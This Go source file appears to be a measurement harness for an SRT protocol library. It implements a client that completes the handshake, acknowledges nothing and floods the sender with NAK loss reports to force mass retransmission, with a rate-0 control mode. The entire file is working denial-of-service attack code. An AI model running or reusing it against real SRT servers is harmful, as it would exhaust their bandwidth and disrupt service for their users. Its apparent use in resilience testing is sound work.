package main

import (
	"context"
	"errors"
	"fmt"
	"math/rand/v2"
	"net"
	"net/netip"
	"time"

	"github.com/weirline/weirline/srtcore/seq"
	"github.com/weirline/weirline/srtcore/wire"
)

// flooded is the line of the attacker.
type flooded struct {
	Role     string  `json:"role"`
	Local    string  `json:"local"`
	Offered  uint64  `json:"naks_sent"`
	Rate     float64 `json:"naks_per_s"`
	Secs     float64 `json:"secs"`
	Data     uint64  `json:"data_pkts"`
	Rexmit   uint64  `json:"rexmit_pkts"`
	Span     int     `json:"last_span"` // packets the last loss report covered
	Filled   int     `json:"filled"`    // packets unacknowledged when the flood began
	FillS    float64 `json:"fill_s"`    // how long that took
	Shutdown bool    `json:"shutdown"`  // the sender ended the connection
}

// attacker is a caller that completes the handshake as a receiver, acknowledges
// nothing, and reports loss without end.
type attacker struct {
	o      options
	conn   *net.UDPConn
	begun  time.Time
	peer   wire.SocketID
	rng    *rand.Rand
	got    bool
	first  seq.Number // data packet
	newest seq.Number
	in     []byte
	out    []byte
	alive  time.Time // when the last keep-alive went
	line   flooded
}

const (
	attackerID = wire.SocketID(0x0badcafe)
	// The latency the attacker asks for: long enough that the sender keeps a
	// whole window of 65,536 packets at 50 Mbit/s.
	attackerLatencyMs = 20000
	stepTimeout       = 250 * time.Millisecond
	fillTimeout       = 30 * time.Second
	keepAlive         = time.Second
)

// flood connects, waits until its window is full of packets it does not
// acknowledge, and sends o.rate loss reports a second: half of them cover
// everything the sender still holds, half a random stretch of it. At a rate of 0
// it is the control: a receiver that takes and says nothing.
func flood(ctx context.Context, o options) (any, error) {
	a := &attacker{o: o, begun: time.Now(), rng: rand.New(rand.NewPCG(o.seed, 5)), in: make([]byte, 64<<10)}
	to, err := net.ResolveUDPAddr("udp4", o.addr())
	if err != nil {
		return nil, err
	}
	if a.conn, err = net.DialUDP("udp4", nil, to); err != nil {
		return nil, err
	}
	defer a.conn.Close()
	_ = a.conn.SetReadBuffer(4 << 20)
	if err := a.connect(); err != nil {
		return nil, err
	}
	a.line.Role, a.line.Local = "flood", a.conn.LocalAddr().String()
	if err := a.fill(ctx); err != nil {
		return nil, err
	}
	ready("%d packets unacknowledged", a.line.Filled)
	a.run(ctx)
	a.send(wire.ControlHeader{Type: wire.CtrlShutdown}, make([]byte, 4))
	return a.line, nil
}

func (a *attacker) stamp() wire.Timestamp {
	return wire.Timestamp(time.Since(a.begun).Microseconds())
}

func (a *attacker) send(h wire.ControlHeader, content []byte) {
	h.Timestamp, h.Dest = a.stamp(), a.peer
	a.out = append(a.out[:0], make([]byte, wire.HeaderSize)...)
	h.Put(a.out)
	a.out = append(a.out, content...)
	_, _ = a.conn.Write(a.out)
}

// connect is the caller's handshake (draft section 4.3.1).
func (a *attacker) connect() error {
	hs := wire.Handshake{
		Version: 4, ExtField: 2, InitSeq: seq.Number(a.rng.Uint32()) & seq.Max, MSS: 1500,
		FlowWindow: uint32(a.o.window), Type: wire.HSInduction, SocketID: attackerID,
		PeerIP: wire.PeerIP(netip.MustParseAddr("127.0.0.1")),
	}
	answer, err := a.ask(&hs, wire.HSInduction)
	if err != nil {
		return fmt.Errorf("induction: %w", err)
	}
	hs.Version, hs.ExtField, hs.Type, hs.Cookie = 5, wire.ExtFieldHSReq, wire.HSConclusion, answer.Cookie
	ext := wire.HSExt{
		Version:         0x010503,
		Flags:           wire.FlagTSBPDSnd | wire.FlagTSBPDRcv | wire.FlagCrypt | wire.FlagTLPktDrop | wire.FlagPeriodicNAK | wire.FlagRexmit,
		RcvTSBPDDelayMs: attackerLatencyMs,
	}
	hs.Exts = ext.Append(nil, wire.ExtHSReq)
	if answer, err = a.ask(&hs, wire.HSConclusion); err != nil {
		return fmt.Errorf("conclusion: %w", err)
	}
	a.peer = answer.SocketID
	return nil
}

// ask sends a handshake until the answer comes.
func (a *attacker) ask(hs *wire.Handshake, want wire.HSType) (wire.Handshake, error) {
	for range 12 {
		a.send(wire.ControlHeader{Type: wire.CtrlHandshake}, hs.Append(nil))
		_ = a.conn.SetReadDeadline(time.Now().Add(stepTimeout))
		n, err := a.conn.Read(a.in)
		if err != nil {
			continue
		}
		h, content, err := wire.ParseControl(a.in[:n])
		if err != nil || h.Type != wire.CtrlHandshake {
			continue
		}
		answer, err := wire.ParseHandshake(content)
		switch {
		case err != nil:
			return answer, err
		case answer.Type.IsReject():
			return answer, fmt.Errorf("refused: %v", wire.RejectReason(answer.Type))
		case answer.Type == want:
			return answer, nil
		}
	}
	return wire.Handshake{}, errors.New("no answer")
}

// span is how many packets the sender still holds, as far as they came here.
func (a *attacker) span() int {
	if !a.got {
		return 0
	}
	return min(a.newest.Sub(a.first)+1, a.o.window)
}

// fill takes packets until the window is full.
func (a *attacker) fill(ctx context.Context) error {
	begun := time.Now()
	for a.span() < a.o.window {
		switch {
		case ctx.Err() != nil:
			return ctx.Err()
		case a.line.Shutdown || time.Since(begun) > fillTimeout:
			return fmt.Errorf("the window did not fill: %d of %d packets", a.span(), a.o.window)
		}
		a.readUntil(time.Now().Add(10 * time.Millisecond))
	}
	a.line.Filled, a.line.FillS = a.span(), time.Since(begun).Seconds()
	return nil
}

// live keeps a connection that says nothing else from being taken for dead
// (draft section 3.2.3).
func (a *attacker) live() {
	if time.Since(a.alive) >= keepAlive {
		a.alive = time.Now()
		a.send(wire.ControlHeader{Type: wire.CtrlKeepAlive}, make([]byte, 4))
	}
}

// run attacks on a grid of a millisecond and reads what comes between.
func (a *attacker) run(ctx context.Context) {
	begun := time.Now()
	for tick := begun; ctx.Err() == nil && !a.line.Shutdown; {
		elapsed := time.Since(begun)
		if elapsed >= a.o.hold() {
			break
		}
		for due := uint64(elapsed.Seconds() * float64(a.o.rate)); a.line.Offered < due; a.line.Offered++ {
			a.nak()
		}
		if tick = tick.Add(time.Millisecond); time.Until(tick) < 0 {
			tick = time.Now()
		}
		a.readUntil(tick)
	}
	a.line.Secs = time.Since(begun).Seconds()
	a.line.Rate = float64(a.line.Offered) / a.line.Secs
}

// nak reports loss of what the window may hold.
func (a *attacker) nak() {
	span := a.span()
	r := wire.SeqRange{First: a.newest.Add(1 - span), Last: a.newest}
	if a.line.Offered%2 == 1 && span > 2 {
		from := a.rng.IntN(span - 1)
		r.First, r.Last = r.First.Add(from), r.First.Add(from+1+a.rng.IntN(span-from-1))
	}
	a.line.Span = span
	a.send(wire.ControlHeader{Type: wire.CtrlNAK}, wire.AppendNAKRange(nil, r))
}

func (a *attacker) readUntil(t time.Time) {
	a.live()
	_ = a.conn.SetReadDeadline(t)
	for {
		n, err := a.conn.Read(a.in)
		if err != nil {
			return
		}
		a.take(a.in[:n])
		if !time.Now().Before(t) {
			return
		}
	}
}

func (a *attacker) take(b []byte) {
	if len(b) < wire.HeaderSize {
		return
	}
	if wire.IsControl(b) {
		h, _, err := wire.ParseControl(b)
		a.line.Shutdown = a.line.Shutdown || err == nil && h.Type == wire.CtrlShutdown
		return
	}
	s := wire.DataSeq(b)
	if wire.IsRexmit(b) {
		a.line.Rexmit++
		return
	}
	a.line.Data++
	if !a.got {
		a.got, a.first, a.newest = true, s, s
	}
	if s.Sub(a.newest) > 0 {
		a.newest = s
	}
}
